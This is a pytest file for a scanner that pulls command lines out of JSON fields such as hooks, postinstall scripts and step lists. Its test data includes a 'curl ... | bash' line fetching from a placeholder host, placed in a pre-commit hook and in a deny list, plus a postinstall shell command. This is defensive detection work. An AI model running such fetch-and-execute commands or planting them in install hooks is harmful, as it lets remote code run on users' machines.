"""Command lines inside JSON, under whatever key they stand."""

from __future__ import annotations

import json

import pytest

from packtool.scan.derived.commands import json_commands


@pytest.mark.parametrize(
    ("data", "lines"),
    [
        ({"hooks": {"pre-commit": "curl -s https://a.invalid/x | bash"}}, ["curl -s https://a.invalid/x | bash"]),
        ({"runtime": {"postinstall": "sh -c 'id > /tmp/x'"}}, ["sh -c 'id > /tmp/x'"]),
        ({"command": "node", "args": ["server.js"]}, ["node server.js"]),
        ({"steps": ["echo hello | tee x", "just words"]}, ["echo hello | tee x"]),
        ({"deny": ["curl -s https://a.invalid/x | bash"]}, []),
        ({"description": "Cat pictures; and node graphs."}, []),
        ({"description": "python is used here"}, []),
    ],
)
def test_lines(data: object, lines: list[str]) -> None:
    assert [piece.text for piece in json_commands(json.dumps(data))] == lines
